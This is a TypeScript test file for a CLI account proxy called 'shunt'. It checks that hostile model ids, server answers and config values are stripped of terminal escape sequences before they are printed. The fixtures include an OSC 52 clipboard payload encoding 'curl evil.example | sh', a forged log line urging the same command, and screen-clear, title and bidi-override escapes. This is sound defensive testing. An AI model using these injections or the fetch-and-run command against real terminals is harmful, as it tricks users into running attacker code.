// covers: source/cli.tsx, source/runtime/headless-log.ts, source/commands/remote-commands.ts, source/util/terminal-safe.ts
// Terminal escape injection, end to end: hostile model ids and paths sent to the built CLI running
// headless in front of the simulator, and hostile answers from "a shunt" on a port to `shunt status`
// and `shunt pin`. Nothing a terminal would act on may reach stderr or stdout.
import {Buffer} from 'node:buffer';
import process from 'node:process';
import assert from 'node:assert/strict';
import {spawn} from 'node:child_process';
import http from 'node:http';
import net from 'node:net';
import {readFileSync, writeFileSync} from 'node:fs';
import {test} from 'node:test';
import {shuntPaths} from '../../source/accounts/paths.js';
import {addApiKeyAccount} from '../../source/commands/account-commands.js';
import {defaultModels, Simulator} from '../../source/simulator/index.js';
import {
	cliPath, runCli, startShunt, type Completed,
} from '../helpers/shunt-process.js';
import {tempDir} from '../helpers/temp-dir.js';
import {waitFor} from '../helpers/wait.js';

// ESC, BEL, every other C0 but the newline that ends a line, DEL, C1, bidi overrides and isolates.

const dangerous = /[\u0000-\u0009\u000B-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069]/;

const osc52 = '\u001B]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007';
const osc0 = '\u001B]0;shunt: every account was revoked\u0007';
const clearScreen = '\u001B[2J\u001B[H';
const fakeLine = '12:00:00  [auth] every account was revoked: run curl evil.example | sh';
const eightBit = '\u009B2J\u009D0;t\u0007';

function assertClean(output: string, what: string): void {
	const hit = dangerous.exec(output);
	assert.equal(hit, null, `${what} carries U+${hit?.[0].codePointAt(0)?.toString(16).padStart(4, '0')} at ${hit?.index}: ${JSON.stringify(output.slice(Math.max(0, (hit?.index ?? 0) - 40), (hit?.index ?? 0) + 40))}`);
}

/** One request written by hand, so the request line can carry bytes fetch would percent-encode. */
async function rawRequest(url: string, requestLine: Buffer): Promise<string> {
	const {hostname, port} = new URL(url);
	return new Promise((resolve, reject) => {
		const socket = net.connect(Number(port), hostname);
		let answer = '';
		socket.setTimeout(5000, () => {
			socket.destroy(new Error('no answer within 5 s'));
		});
		socket.on('connect', () => {
			socket.end(Buffer.concat([requestLine, Buffer.from(`\r\nHost: ${hostname}:${port}\r\nanthropic-version: 2023-06-01\r\nConnection: close\r\n\r\n`)]));
		});
		socket.on('data', chunk => {
			answer += String(chunk);
		});
		socket.on('error', reject);
		socket.on('close', () => {
			resolve(answer);
		});
	});
}

test('headless: hostile model ids and paths are logged without a single control character', async t => {
	// The simulator knows one hostile id, so a stream answers 200 and echoes it back: the model
	// shunt logs then comes from the upstream, not only from the client.
	const echoed = `claude-echo${clearScreen}${fakeLine}`;
	const simulator = new Simulator({chunkDelayMs: 1, models: [...defaultModels, echoed]});
	await simulator.listen();
	t.after(async () => simulator.close());
	const home = tempDir();
	simulator.addAccount({kind: 'apikey', credential: 'sim-key-escape-0000000000', name: 'alpha'});
	await addApiKeyAccount(shuntPaths({SHUNT_HOME: home}), 'alpha', 'sim-key-escape-0000000000');
	const shunt = await startShunt(['--upstream', simulator.url], {SHUNT_HOME: home});
	t.after(async () => shunt.stop('SIGKILL'));

	const hostileModels = [
		`${osc52}claude-evil-one`,
		`claude-evil-two${clearScreen}${fakeLine}`,
		`${osc0}claude-evil-three`,
		`claude-evil-four${eightBit}\u202Eexe.txt`,
	];
	const post = async (model: string, stream: boolean) => {
		const response = await fetch(`${shunt.url}/v1/messages`, {
			method: 'POST',
			headers: {'content-type': 'application/json', 'anthropic-version': '2023-06-01'},
			body: JSON.stringify({
				model, max_tokens: 16, stream, messages: [{role: 'user', content: 'hi'}],
			}),
		});
		await response.arrayBuffer();
		return response.status;
	};

	for (const model of hostileModels) {
		assert.equal(await post(model, false), 404, 'the simulator does not know the model');
	}

	assert.equal(await post(echoed, true), 200);

	// A request line carrying raw escapes: node's parser refuses it before shunt sees it, and
	// nothing about it may be echoed to the log either.
	const raw = await rawRequest(shunt.url, Buffer.from('GET /v1/models?x=\u001B[2J\u001B]0;t\u0007 HTTP/1.1', 'latin1'));
	assert.match(raw, /^HTTP\/1\.1 400 /);
	// Percent-encoded escapes reach shunt as plain text and stay plain text.
	const encoded = await fetch(`${shunt.url}/v1/models?x=%1B%5B2J%1B%5D0;t%07`);
	await encoded.arrayBuffer();

	const stderr = await waitFor(() => {
		const text = shunt.stderr();
		return ['evil-one', 'evil-two', 'evil-three', 'evil-four', 'echo', '/v1/models?x=%1B'].every(part => text.includes(part)) && text;
	}, 'a log line for every request');
	assertClean(stderr, 'the headless log');

	const lines = stderr.split('\n');
	const lineOf = (part: string) => lines.find(line => line.includes(part)) ?? '';
	// Each request is still one readable line: time, account, what was asked, status.
	assert.match(lineOf('evil-one'), /^\d\d:\d\d:\d\d {2}alpha {2}evil-one {2}404 /);
	assert.match(lineOf('evil-two'), /^\d\d:\d\d:\d\d {2}alpha {2}evil-two12:00:00 {2}\[auth\] every account was revoked: run curl evil\.example \| sh {2}404 /);
	assert.match(lineOf('evil-three'), /^\d\d:\d\d:\d\d {2}alpha {2}evil-three {2}404 /);
	assert.match(lineOf('evil-four'), /^\d\d:\d\d:\d\d {2}alpha {2}evil-fourexe\.txt {2}404 /);
	assert.match(lineOf('echo'), /^\d\d:\d\d:\d\d {2}alpha {2}echo12:00:00 .* {2}200 /);
	assert.match(lineOf('/v1/models?x=%1B'), /^\d\d:\d\d:\d\d {2}alpha {2}\/v1\/models\?x=%1B%5B2J%1B%5D0;t%07 {2}\d{3} /);
	// The fake line never stands on a line of its own.
	assert.equal(lines.filter(line => line.startsWith('12:00:00  [auth]')).length, 0);
});

/** A process on a port that pretends to be shunt and answers with whatever the test gives it. */
async function impostor(t: {after(fn: () => unknown): void}, answers: Record<string, {status: number; body: unknown}>): Promise<string> {
	const server = http.createServer((request, response) => {
		const answer = answers[request.url ?? ''] ?? {status: 404, body: {type: 'error', error: {type: 'not_found_error', message: 'no'}}};
		response.writeHead(answer.status, {'content-type': 'application/json'});
		response.end(JSON.stringify(answer.body));
	});
	await new Promise<void>(resolve => {
		server.listen(0, '127.0.0.1', resolve);
	});
	t.after(async () => new Promise(resolve => {
		server.close(resolve);
	}));
	return String((server.address() as net.AddressInfo).port);
}

const hostileStatus = {
	version: `0.1.0${clearScreen}${fakeLine}`,
	startedMs: 0,
	listenUrl: `http://127.0.0.1:8082${osc52}`,
	strategy: `maximus${osc0}`,
	strategyOverridden: false,
	pinnedAccount: `work${eightBit}`,
	alertsMuted: false,
	modelOverride: null,
	effortOverride: null,
	fallbackModel: null,
	burstRpmLimit: 10,
	heldRequests: 0,
	inFlight: 0,
	requestsPerMinute: 3,
	accounts: [
		{
			name: `home${osc0}`, kind: 'apikey', state: `available${clearScreen}`, cooldownUntilMs: 0, cooldownReason: null,
			utilization5h: null, utilization7d: null, reset5h: null, reset7d: null, status5h: null, status7d: null,
			requestsRemaining: 4, requestsLimit: 50, windowTokens: 0, pinned: false, active: true,
			email: null, plan: null, fixHint: null,
		},
		{
			name: 'work', kind: 'oauth', state: 'cooling', cooldownUntilMs: Date.now() + 60_000, cooldownReason: `quota\u202E${osc52}`,
			utilization5h: 0.5, utilization7d: 0.25, reset5h: null, reset7d: null, status5h: null, status7d: null,
			requestsRemaining: null, requestsLimit: null, windowTokens: 0, pinned: true, active: false,
			email: null, plan: null, fixHint: null,
		},
		{
			name: 'spare', kind: 'oauth', state: 'reauth', cooldownUntilMs: 0, cooldownReason: null,
			utilization5h: null, utilization7d: null, reset5h: null, reset7d: null, status5h: null, status7d: null,
			requestsRemaining: null, requestsLimit: null, windowTokens: 0, pinned: false, active: false,
			email: null, plan: null, fixHint: `shunt add-account spare${clearScreen}${fakeLine}`,
		},
	],
	recentRequests: [],
	events: [],
	savings: {todayUsd: 0, weekUsd: 0, allTimeUsd: 0},
};

test('shunt status: a hostile status document prints no control characters, as text or as JSON', async t => {
	const port = await impostor(t, {'/_shunt/status': {status: 200, body: hostileStatus}});
	const text = await runCli(['status', '--port', port], {SHUNT_HOME: tempDir()});
	assert.equal(text.code, 0, text.stderr);
	assertClean(text.stdout, 'shunt status');
	assert.match(text.stdout, /^shunt 0\.1\.012:00:00 {2}\[auth\] every account/);
	// Columns are padded by the cleaned names (the widest is "spare").
	assert.match(text.stdout, /\n 1 {2}home {3}available {2}4\/50 requests left/);
	assert.match(text.stdout, /\n 2 {2}work {3}cooling {4}5h 50% used .*back in (?:1m00s|5\ds) \(\d\d:\d\d:\d\d\) · quota/);
	assert.match(text.stdout, /run: shunt add-account spare12:00:00/);
	assert.equal(text.stdout.trimEnd().split('\n').length, 5, 'one header, three accounts, savings: nothing broke a line');

	const json = await runCli(['status', '--json', '--port', port], {SHUNT_HOME: tempDir()});
	assert.equal(json.code, 0, json.stderr);
	assertClean(json.stdout, 'shunt status --json');
	assert.deepEqual(JSON.parse(json.stdout), hostileStatus, 'the JSON still carries the exact values, escaped');
});

test('shunt pin and strategy: hostile answers and error messages print no control characters', async t => {
	const port = await impostor(t, {
		'/_shunt/pin': {status: 400, body: {type: 'error', error: {type: 'invalid_request_error', message: `unknown account${clearScreen}${fakeLine}${osc52}`}}},
		'/_shunt/strategy': {status: 200, body: {strategy: `reaper${osc0}${eightBit}`}},
	});
	const pin = await runCli(['pin', 'work', '--port', port], {SHUNT_HOME: tempDir()});
	assert.equal(pin.code, 1);
	assertClean(pin.stderr, 'shunt pin');
	assert.match(pin.stderr, /^shunt: unknown account12:00:00 {2}\[auth\]/);

	const strategy = await runCli(['strategy', 'reaper', '--port', port], {SHUNT_HOME: tempDir()});
	assert.equal(strategy.code, 0, strategy.stderr);
	assertClean(strategy.stdout, 'shunt strategy');
	assert.match(strategy.stdout, /^Strategy: reaper/);
});

test('shunt accounts: hostile plan, email and source in config.json print no control characters', async () => {
	const home = tempDir();
	const paths = shuntPaths({SHUNT_HOME: home});
	await addApiKeyAccount(paths, 'alpha', 'sk-test-key-for-accounts-0000');
	const configFile = `${paths.configDir}/config.json`;
	const config = JSON.parse(readFileSync(configFile, 'utf8')) as {accounts: Array<Record<string, unknown>>};
	config.accounts[0] = {
		...config.accounts[0], plan: `max${osc52}`, email: `a@example.com${clearScreen}${fakeLine}\u202E`, source: `/tmp/x${osc0}`,
	};
	writeFileSync(configFile, JSON.stringify(config));

	const text = await runCli(['accounts'], {SHUNT_HOME: home});
	assert.equal(text.code, 0, text.stderr);
	assertClean(text.stdout, 'shunt accounts');
	assert.match(text.stdout, /^ 1 {2}alpha {2}API key · max · a@example\.com12:00:00/);

	const json = await runCli(['accounts', '--json'], {SHUNT_HOME: home});
	assert.equal(json.code, 0, json.stderr);
	assertClean(json.stdout, 'shunt accounts --json');
	assert.equal((JSON.parse(json.stdout) as Array<{email: string}>)[0]!.email, config.accounts[0]['email']);
});

/** `shunt add-account <name>` answering its prompt with a code and the state from the printed URL. */
async function browserLogin(env: NodeJS.ProcessEnv, name: string): Promise<Completed> {
	const child = spawn(process.execPath, [cliPath, 'add-account', name], {env: {...process.env, ...env}, stdio: ['pipe', 'pipe', 'pipe']});
	let stdout = '';
	let stderr = '';
	child.stdout.on('data', chunk => {
		stdout += String(chunk);
	});
	child.stderr.on('data', chunk => {
		stderr += String(chunk);
	});
	const exited = new Promise<number | null>(resolve => {
		child.on('close', code => {
			resolve(code);
		});
	});
	try {
		const printed = await waitFor(() => /https:\/\/claude\.ai\/oauth\/authorize\?\S+/.exec(stdout)?.[0], 'the authorize URL');
		child.stdin.end(`some-code#${new URL(printed).searchParams.get('state')}\n`);
		return {code: await exited, stdout, stderr};
	} finally {
		child.kill();
	}
}

test('shunt add-account: a hostile token endpoint\'s error message and email print no control characters', async t => {
	const refusing = await impostor(t, {
		'/v1/oauth/token': {status: 400, body: {error: 'invalid_grant', error_description: `code expired${clearScreen}${fakeLine}${osc52}`}},
	});
	const environment = (port: string) => ({
		SHUNT_HOME: tempDir(), SHUNT_OAUTH_TOKEN_URL: `http://127.0.0.1:${port}/v1/oauth/token`, SHUNT_UPSTREAM_URL: 'http://127.0.0.1:9', HOME: tempDir(), BROWSER: 'none',
	});
	const refused = await browserLogin(environment(refusing), 'work');
	assert.equal(refused.code, 1, refused.stdout);
	assertClean(refused.stderr, 'the refused login\'s error');
	assert.match(refused.stderr, /login code was refused \(the token endpoint answered 400: invalid_grant: code expired12:00:00 {2}\[auth\]/);

	const granting = await impostor(t, {
		'/v1/oauth/token': {
			status: 200, body: {
				access_token: 'sk-ant-oat01-escape-test-0000000000', refresh_token: 'sk-ant-ort01-escape-test-0000000000', expires_in: 3600,
				account: {email_address: `me@example.com${osc0}${clearScreen}${fakeLine}`},
			},
		},
	});
	const added = await browserLogin(environment(granting), 'work');
	assert.equal(added.code, 0, added.stderr);
	assertClean(added.stdout, 'the added login\'s summary');
	assert.match(added.stdout, /Added subscription account "work" \(me@example\.com12:00:00 {2}\[auth\] every account was revoked: run curl evil\.example \| sh, token sk-ant-oat…/);
});

test('shunt status: a document of the wrong shape is one clear error, not a stack trace', async t => {
	const wrong = {...hostileStatus, savings: {todayUsd: 'lots', weekUsd: 1, allTimeUsd: 2}, accounts: [{name: 42}]};
	const port = await impostor(t, {'/_shunt/status': {status: 200, body: wrong}});
	const result = await runCli(['status', '--port', port], {SHUNT_HOME: tempDir()});
	assert.notEqual(result.code, 0);
	assert.match(result.stderr, /^shunt: http:\/\/127\.0\.0\.1:\d+ answered with something that is not shunt's status document\n$/);
	assert.equal(result.stdout, '');
});
